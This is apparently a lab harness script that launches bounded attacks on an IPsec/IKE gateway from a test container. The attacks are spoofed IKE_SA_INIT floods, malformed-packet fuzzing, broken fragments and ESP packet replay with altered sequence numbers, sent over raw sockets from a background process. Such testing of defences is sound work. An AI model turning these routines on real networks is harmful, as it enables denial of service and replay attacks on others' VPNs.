"""Who attacks from the wide area: a bounded run of hostile packets out of the ``wan`` container.

The lab copies this file there beside ``packets.py`` (standard library only) and starts it with one
JSON argument. It writes what it does to ``attack.json``, on which it holds a lock as long as it
runs, goes to the background, and ends by itself or on SIGTERM.
"""

from __future__ import annotations

import fcntl
import json
import os
import random
import signal
import socket
import struct
import sys
import time
from collections.abc import Iterator, Mapping
from ipaddress import ip_address
from pathlib import Path
from typing import IO, Any

from paranal.lab import packets

REPORT = "attack.json"
_BURSTS_PER_SECOND = 20
_IPV6_HDRINCL = 36
_ETH_ALL = 0x0003
_CAPTURE_SECONDS = 30.0

Wire = Iterator[bytes]
"""IP packets, each sent at its time: an attack sleeps between two of them."""


class Attack:
    """One run: what was asked for, what was counted, and the sockets it sends through."""

    def __init__(self, asked: Mapping[str, Any], report: IO[str]) -> None:
        """Open one raw socket of the targets' family; needs CAP_NET_RAW."""
        self.asked = asked
        self.pid = os.getpid()
        self.counted: dict[str, int] = {"sent": 0}
        self._report = report
        self._six = ip_address(asked["target"]).version == 6
        family = socket.AF_INET6 if self._six else socket.AF_INET
        self._socket = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        level = socket.IPPROTO_IPV6 if self._six else socket.IPPROTO_IP
        self._socket.setsockopt(level, _IPV6_HDRINCL if self._six else socket.IP_HDRINCL, 1)

    def run(self) -> None:
        """Send everything and note the end."""
        written = time.monotonic()
        try:
            for packet in _KINDS[self.asked["kind"]](self):
                self.send(packet)
                if time.monotonic() - written > 1:
                    written = time.monotonic()
                    self.note(ended=False)
        finally:
            self.note(ended=True)

    def send(self, packet: bytes) -> None:
        """Send one IP packet, cut to the line's size."""
        whole = len(packet) <= packets.MTU
        for piece in [packet] if whole else packets.fragments(packet, number=self.counted["sent"]):
            self._socket.sendto(piece, (self.asked["via"], 0))
        self.counted["sent"] += 1

    def count(self, what: str) -> None:
        """Count one more of a kind."""
        self.counted[what] = self.counted.get(what, 0) + 1

    def note(self, *, ended: bool) -> None:
        """Write the state of the run; who reads in between finds one of the two states."""
        state = {**self.asked, "pid": self.pid, "ended": ended, "counted": self.counted}
        os.pwrite(self._report.fileno(), f"{json.dumps(state)}{' ' * 80}".encode(), 0)


def flood(attack: Attack) -> Wire:
    """Ask for IKE_SAs in bursts, under the names of all peers in turn, and never go on."""
    asked = attack.asked
    chance = random.Random(asked["seed"])  # noqa: S311 - repeatable, not secret
    begun = time.monotonic()
    for burst in range(round(asked["seconds"] * _BURSTS_PER_SECOND)):
        for number in range(max(1, round(asked["rate"] / _BURSTS_PER_SECOND))):
            source = asked["under"][number % len(asked["under"])]
            ports = (packets.IKE_PORT, packets.IKE_PORT)
            yield packets.udp(source, asked["target"], ports, packets.ike_sa_init(chance))
        time.sleep(max(0.0, begun + (burst + 1) / _BURSTS_PER_SECOND - time.monotonic()))


def fuzz(attack: Attack) -> Wire:
    """Send the malformed corpus of a seed, from each peer in turn."""
    asked = attack.asked
    begun = time.monotonic()
    for number, (case, port, payload) in enumerate(
        packets.malformed(asked["seed"], asked["count"])
    ):
        source = asked["under"][number % len(asked["under"])]
        attack.count(case)
        yield packets.udp(source, asked["target"], (port, port), payload)
        time.sleep(max(0.0, begun + number / asked["rate"] - time.monotonic()))


def fragments(attack: Attack) -> Wire:
    """Send each case of broken fragments once, from the first of the sources."""
    asked = attack.asked
    for case, pieces in packets.broken_fragments(asked["under"][0], asked["target"], asked["seed"]):
        attack.count(case)
        yield from pieces
        time.sleep(0.1)


def replay(attack: Attack) -> Wire:
    """Take ESP packets off the line as they pass, and send them again later, ``copies`` times.

    ``ahead`` is added to the sequence number: no longer what was signed, and from the future.
    """
    asked = attack.asked
    taken: list[bytes] = []
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ETH_ALL)) as link:
        link.bind((asked["link"], _ETH_ALL))
        deadline = time.monotonic() + _CAPTURE_SECONDS
        while len(taken) < asked["count"] and (wait := deadline - time.monotonic()) > 0:
            link.settimeout(wait)
            try:
                again = _esp(link.recv(65535), asked)
            except TimeoutError:
                break
            if again:
                taken.append(again)
                attack.counted["taken"] = len(taken)
                attack.note(ended=False)
    time.sleep(asked["after"])
    for _ in range(asked["copies"]):
        yield from taken


def _esp(packet: bytes, asked: Mapping[str, Any]) -> bytes | None:
    """Return an ESP-in-UDP packet from source to target as it must be to be valid again."""
    six = packet[0] >> 4 == 6
    head, addresses, protocol = (40, slice(8, 40), 6) if six else (20, slice(12, 20), 9)
    ends = ip_address(asked["under"][0]).packed + ip_address(asked["target"]).packed
    if packet[addresses] != ends or packet[protocol] != socket.IPPROTO_UDP:
        return None
    *ports, length = struct.unpack_from("!HHH", packet, head)
    payload = packet[head + 8 : head + length]
    if ports[1] != packets.NAT_PORT or len(payload) < 8 or payload[:4] == packets.NON_ESP:
        return None
    number = int.from_bytes(payload[4:8], "big") + asked["ahead"] & 0xFFFFFFFF
    payload = payload[:4] + number.to_bytes(4, "big") + payload[8:]
    # Its checksum is not there yet when the sender's kernel leaves that to the device.
    return packets.udp(asked["under"][0], asked["target"], (ports[0], ports[1]), payload)


_KINDS = {"flood": flood, "fuzz": fuzz, "fragments": fragments, "replay": replay}


def running(folder: Path) -> bool:
    """Tell whether an attack is under way, by the lock that it holds on its report."""
    try:
        with (folder / REPORT).open(encoding="utf-8") as report:
            fcntl.flock(report, fcntl.LOCK_SH | fcntl.LOCK_NB)
    except FileNotFoundError:
        return False
    except BlockingIOError:
        return True
    return False


def main() -> None:
    """Start the attack of the first argument, reported in the folder of the second."""
    asked, folder = json.loads(sys.argv[1]), Path(sys.argv[2])
    with (folder / REPORT).open("w+", encoding="utf-8") as report:
        fcntl.flock(report, fcntl.LOCK_EX | fcntl.LOCK_NB)
        attack = Attack(asked, report)
        if child := os.fork():  # it keeps the lock; whoever waits for us need not wait for it
            attack.pid = child
            attack.note(ended=False)
            os._exit(0)
        attack.pid = os.getpid()
        nowhere = os.open(os.devnull, os.O_RDWR)
        for stream in range(3):
            os.dup2(nowhere, stream)
        signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
        attack.run()


if __name__ == "__main__":
    main()
